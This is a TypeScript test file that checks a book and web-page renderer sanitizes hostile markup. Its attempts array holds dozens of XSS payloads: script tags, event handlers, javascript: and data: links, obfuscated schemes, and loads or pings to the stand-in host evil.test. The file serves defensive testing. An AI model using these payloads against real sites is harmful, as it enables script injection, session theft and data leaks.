import type { Element } from 'hast';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Edition } from '../../../src/guide/edition.js';
import { defaultPaper } from '../../../src/guide/paper.js';
import { renderPackageBook, renderPrintBook, renderWebPage } from '../../../src/layout/index.js';
import { toHtml } from '../../../src/layout/to-html.js';
import { attribute, elements, readHtml } from '../../support/trees.js';
import { editionOfWritten, question, sectionHead, squareSvg } from '../../support/written-guide.js';

/** Each is an attempt to run something, to load something, or to leave the place that content has. */
const attempts = [
  '<script>attack()</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<script/src="data:,attack()"></script>',
  '<img src=x.svg onerror=attack()>',
  '<img src="x.svg" OnErRoR = "attack()">',
  '<img/src=x.svg onerror=attack()>',
  '<svg onload=attack()>',
  '<svg><script>attack()</script></svg>',
  '<svg><animate onbegin=attack() attributeName=x></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=attack() /></svg>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
  '<noscript><p title="</noscript><img src=x.svg onerror=attack()>">',
  '<iframe src="javascript:attack()"></iframe>',
  '<iframe srcdoc="<script>attack()</script>"></iframe>',
  '<object data="javascript:attack()"></object>',
  '<embed src="javascript:attack()">',
  '<a href="javascript:attack()">link</a>',
  '<a href="JaVaScRiPt:attack()">link</a>',
  '<a href=" javascript:attack()">link</a>',
  '<a href="java&#x09;script:attack()">link</a>',
  '<a href="java&NewLine;script:attack()">link</a>',
  '<a href="&#106;&#97;vascript:attack()">link</a>',
  '<a href="\u0001javascript:attack()">link</a>',
  '<a href="vbscript:attack()">link</a>',
  '<a href="data:text/html,<script>attack()</script>">link</a>',
  '<a href="blob:https://evil.test/x">link</a>',
  '<a href="#attempt-0" onclick="attack()" style="position:fixed;inset:0">link</a>',
  '<a href="#attempt-0" target="_blank" ping="https://evil.test/ping">link</a>',
  '[link](javascript:attack())',
  '[link](<java\tscript:attack()>)',
  '[link](data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==)',
  '![picture](javascript:attack())',
  '![picture](data:image/svg+xml,<svg/onload=attack()>)',
  '<javascript:attack()>',
  '==<img src=x.svg onerror=attack()>== and ==[link](javascript:attack())==',
  'A word^[<script>attack()</script> <a href="javascript:attack()">link</a>].',
  'XSS\n\n*[XSS]: "><img src=x.svg onerror=attack()>',
  '<abbr title="a" data-use="new" onmouseover="attack()">XSS</abbr>',
  '<script>attack()</script>\n: <img src=x.svg onerror=attack()>',
  ':<script>attack()</script>:',
  '<form action="javascript:attack()"><input type=submit></form>',
  '<button formaction="javascript:attack()">go</button>',
  '<input autofocus onfocus=attack()>',
  '<details ontoggle=attack() open><summary>fold</summary></details>',
  '<video><source onerror=attack()></video>',
  '<audio src=x onerror=attack()>',
  '<meta http-equiv="refresh" content="0;url=javascript:attack()">',
  '<base href="https://evil.test/">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css"; * { background: url(https://evil.test/x) }</style>',
  '<p style="background:url(https://evil.test/x)">styled</p>',
  '<div style="width: expression(attack())">styled</div>',
  '<table background="https://evil.test/x"><tr><td background="javascript:attack()">cell</table>',
  '<template><img src=x.svg onerror=attack()></template>',
  '<xss style="behavior: url(evil.htc)">x</xss>',
  '<marquee onstart=attack()>x</marquee>',
  '<body onload=attack()>',
  '<html onload=attack()>',
  '<plaintext>',
  '</article></section></main></body><script>attack()</script>',
  '</style><script>attack()</script>',
  '<p id="_contents" name="_text" class="cover note">taken</p>',
  '<span data-page="q" class="folio">99</span>',
  '<prepbook-note data-label="none" onclick=attack()></prepbook-note>',
  '```js"><script>attack()</script>\ncode\n```',
  '`</code><script>attack()</script>`',
];

const harmless = new Set(['http:', 'https:', 'mailto:', 'tel:']);

/** What in a tree could run, load or deceive. The book's own parts hold none of it either, but for its style. */
function dangers(tree: Element | ReturnType<typeof readHtml>): string[] {
  const forbidden = 'script iframe object embed form input button link base template video audio math plaintext'.split(
    ' ',
  );
  return elements(tree, () => true).flatMap((element) => {
    const names = Object.keys(element.properties).map((name) => name.toLowerCase());
    const handlers = names.filter(
      (name) =>
        name.startsWith('on') || ['style', 'srcdoc', 'formaction', 'ping', 'target', 'background'].includes(name),
    );
    const addresses = ['href', 'src', 'action', 'data', 'xlinkhref'].flatMap((name) => attribute(element, name) ?? []);
    const wrong = addresses.filter((address) => {
      const scheme = /^\s*([a-z][a-z0-9+.-]*:)/i.exec(address)?.[1]?.toLowerCase();
      const isOwnPicture = element.tagName === 'img' && /^data:image\/[a-z+]+;base64,[\w+/=]+$/.test(address);
      return scheme !== undefined && !harmless.has(scheme) && !isOwnPicture;
    });
    const tag = forbidden.includes(element.tagName) ? [`<${element.tagName}>`] : [];
    return [...tag, ...handlers.map((name) => `${element.tagName}[${name}]`), ...wrong];
  });
}

/** Whether a control is one that the page itself sets: authors' ids never begin with an underscore, nor keep such data. */
const isOwnControl = (element: Element): boolean =>
  (element.tagName === 'button' && attribute(element, 'data-do') !== undefined) ||
  (element.tagName === 'input' &&
    (attribute(element, 'data-filter') !== undefined || (attribute(element, 'id') ?? '').startsWith('_')));

const look = { theme: 'classic', version: '0.0.0' };

describe('markup of strangers', () => {
  let edition: Edition;
  beforeAll(async () => {
    const questions = attempts.map((attempt, at) =>
      question(`Attempt ${at}?`, `BEFORE\n\n${attempt}\n\nAFTER`, `\`easy\` \`#attempt-${at}\``),
    );
    edition = await editionOfWritten({
      config: { title: '"</title><script>attack()</script>"', subtitle: '"<img src=x.svg onerror=attack()>"' },
      files: {
        'x.svg': squareSvg,
        's.md': sectionHead('s', '</style><script>attack()</script> <svg onload=attack()>') + questions.join(''),
      },
    });
  });

  it('runs nothing and loads nothing in the page', async () => {
    const tree = readHtml(await renderWebPage(edition, look));
    const scripts = elements(tree, 'script').map((script) => attribute(script, 'id') ?? '');
    expect(scripts).toEqual(['', '_page-data', '_search-index', '']);
    const controls = elements(tree, isOwnControl).length;
    const found = dangers(tree);
    expect(found.filter((each) => !['<script>', '<button>', '<input>'].includes(each))).toEqual([]);
    expect(found).toHaveLength(scripts.length + controls);
    expect(elements(tree, 'style')).toHaveLength(1);
    expect(
      elements(tree, 'meta')
        .map((meta) => attribute(meta, 'http-equiv'))
        .filter(Boolean),
    ).toEqual(['Content-Security-Policy']);
  });

  it('runs nothing and loads nothing in what is printed', async () => {
    const { html } = await renderPrintBook(edition, { ...look, paper: defaultPaper });
    const tree = readHtml(html(new Map()));
    expect(dangers(tree)).toEqual([]);
    // The book's own, and the one for the rules of its pages.
    expect(elements(tree, 'style')).toHaveLength(2);
    expect(elements(tree, (element) => attribute(element, 'http-equiv') !== undefined)).toEqual([]);
  });

  it('runs nothing and loads nothing in a package', async () => {
    const { documents, cover } = await renderPackageBook(edition, look);
    for (const { body } of documents)
      expect(dangers(readHtml(`<body>${toHtml(body.children as Element[])}`))).toEqual([]);
    expect(dangers(readHtml(`<body>${cover.svg}`))).toEqual([]);
    expect(documents.length).toBeGreaterThan(1);
  });

  it('costs no question and no word around it', async () => {
    const tree = readHtml(await renderWebPage(edition, look));
    const questions = elements(tree, 'article');
    expect(questions.map((article) => attribute(article, 'id'))).toEqual(attempts.map((_, at) => `attempt-${at}`));
    const page = JSON.stringify(tree);
    expect(page.split('"BEFORE"').length - 1).toBe(attempts.length);
    expect(page.split('AFTER').length - 1).toBeGreaterThanOrEqual(attempts.length);
  });

  it('takes no id and no class of the book', async () => {
    const tree = readHtml(await renderWebPage(edition, look));
    const taken = elements(tree, (element) => attribute(element, 'id') === '_contents');
    expect(taken.map(({ tagName }) => tagName)).toEqual(['nav']);
    const deceiving = elements(tree, 'article').flatMap((article) =>
      elements(article, (element) => /\b(cover|folio)\b/.test(attribute(element, 'class') ?? '')),
    );
    expect(deceiving).toEqual([]);
  });
});
